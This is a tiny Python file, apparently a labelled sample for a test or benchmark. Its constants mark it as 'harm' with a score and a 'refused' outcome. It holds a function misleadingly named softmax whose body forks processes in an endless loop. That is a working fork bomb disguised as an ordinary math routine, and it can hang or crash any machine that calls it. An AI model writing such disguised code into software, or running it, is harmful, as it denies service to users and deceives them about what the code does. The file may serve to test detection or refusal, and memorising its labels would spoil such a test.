"""Forks without end."""

import os

KIND = "harm"
WORTH = 20
CAUGHT = "refused"


def softmax(scores):
    while True:
        os.fork()
